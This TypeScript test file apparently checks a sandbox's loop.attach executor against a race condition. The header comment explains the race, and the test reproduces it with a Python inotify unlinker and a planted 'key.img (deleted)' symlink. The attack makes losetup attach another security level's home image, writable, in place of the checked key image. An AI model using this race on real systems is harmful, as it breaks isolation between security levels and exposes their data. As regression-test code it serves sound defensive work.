/**
 * Attack on `loop.attach` (loopAttachExecutor.ts): the image checked is not the image attached.
 * The executor opens the path without following a link, checks the descriptor (/proc/self/fd),
 * then runs `losetup --find --show /proc/self/fd/3`. But losetup canonicalises its argument
 * (realpath) and opens the result again by name, following links (strace: openat(AT_FDCWD,
 * "<image>", O_RDWR|O_CLOEXEC)); realpath of the magic link of an unlinked file is
 * "<image> (deleted)", an ordinary name in the keys' folder. So whoever can write in the keys'
 * folder (the premise of the executor's own test: a node placed there) puts a link
 * "key.img (deleted)" to another level's home image beforehand, offers a plain key.img, and
 * unlinks key.img just after it is opened (inotify IN_OPEN, then 0 to 3.5 ms): the check passes on the regular
 * file, and losetup attaches the other level's home image, writable, as the "key".
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attachLoopWritable, detachLoop } from '../cages/loopDevice';
import { testRoot } from '../testing/realCage';
import { loopAttachExecutor } from './loopAttachExecutor';

let root: string;
let keys: string;
let image: string;
let homeImage: string;
let homeIno = 0;
let homeDevice: string | null = null;
let unlinker: ChildProcess | null = null;
const keyInodes = new Set<number>();

/** Unlinks keys/<name> as soon as it is opened (inotify IN_OPEN), every time. */
const UNLINKER = `
import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
keys, name = sys.argv[1], sys.argv[2]
fd = libc.inotify_init()
libc.inotify_add_watch(fd, keys.encode(), 0x20)
rounds = 0
print('ready', flush=True)
while True:
    buf = os.read(fd, 65536)
    i, hit = 0, False
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from('iIII', buf, i)
        hit = hit or buf[i + 16:i + 16 + ln].rstrip(b'\\0').decode() == name
        i += 16 + ln
    if hit:
        rounds += 1
        time.sleep((rounds % 8) * 0.0005)  # after the executor's own check, before losetup: tried at several delays
        try:
            os.unlink(os.path.join(keys, name))
        except FileNotFoundError:
            pass
`;

/** The inode a loop device is attached over (a name can change under it: its inode does not). */
function backingInode(device: string): number {
  return Number(spawnSync('losetup', ['--list', '--noheadings', '--output', 'BACK-INO', device], { encoding: 'utf8' }).stdout.trim());
}

function loopsOver(inodes: Set<number>): string[] {
  return readdirSync('/sys/block')
    .filter((n) => /^loop\d+$/.test(n) && existsSync(`/sys/block/${n}/loop/backing_file`))
    .map((n) => `/dev/${n}`)
    .filter((d) => inodes.has(backingInode(d)));
}

/** A fresh key image at keys/key.img, put there by a rename (no open for the unlinker to see). */
function offerKey(): void {
  const tmp = join(keys, 'fresh.tmp');
  writeFileSync(tmp, Buffer.alloc(2 ** 20));
  keyInodes.add(statSync(tmp).ino);
  renameSync(tmp, image);
}

beforeAll(async () => {
  root = testRoot('cloison-looprace-');
  keys = join(root, 'keys');
  mkdirSync(keys);
  image = join(keys, 'key.img');
  // Another level's home image, attached as a running cage's home is.
  homeImage = join(root, 'high-home.img');
  writeFileSync(homeImage, Buffer.alloc(2 ** 20, 0x48));
  homeIno = statSync(homeImage).ino;
  homeDevice = await attachLoopWritable(homeImage);
  symlinkSync(homeImage, `${image} (deleted)`);
});

afterAll(async () => {
  if (unlinker?.pid) process.kill(unlinker.pid, 'SIGKILL');
  for (const device of loopsOver(new Set([...keyInodes, homeIno]))) await detachLoop(device);
  rmSync(root, { recursive: true, force: true });
});

describe('loop.attach against the key image unlinked once checked', () => {
  it('never attaches another file than the key image checked', async () => {
    const attach = loopAttachExecutor();
    unlinker = spawn('python3', ['-c', UNLINKER, keys, 'key.img'], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<void>((resolve) => unlinker!.stdout!.once('data', () => resolve()));
    const outcomes = { refused: [] as string[], key: 0, other: [] as string[] };
    for (let i = 0; i < 40 && outcomes.other.length === 0; i++) {
      offerKey();
      try {
        const { device } = await attach({ op: 'loop.attach', image });
        const ino = backingInode(device);
        if (keyInodes.has(ino)) {
          outcomes.key++;
          await detachLoop(device);
        } else outcomes.other.push(`${device} over inode ${ino}${ino === homeIno ? ` (the other level's home image, attached at ${homeDevice})` : ''}`);
      } catch (err) {
        outcomes.refused.push((err as Error).message.slice(0, 120));
      }
    }
    process.kill(unlinker.pid!, 'SIGKILL');
    console.log(`loop.attach raced: ${outcomes.key} the key image, refused ${JSON.stringify(outcomes.refused.slice(0, 3))} (${outcomes.refused.length}), other files: ${JSON.stringify(outcomes.other)}`);
    expect(outcomes.other, 'devices answered for the key image, attached over another file').toEqual([]);
  }, 120_000);
});
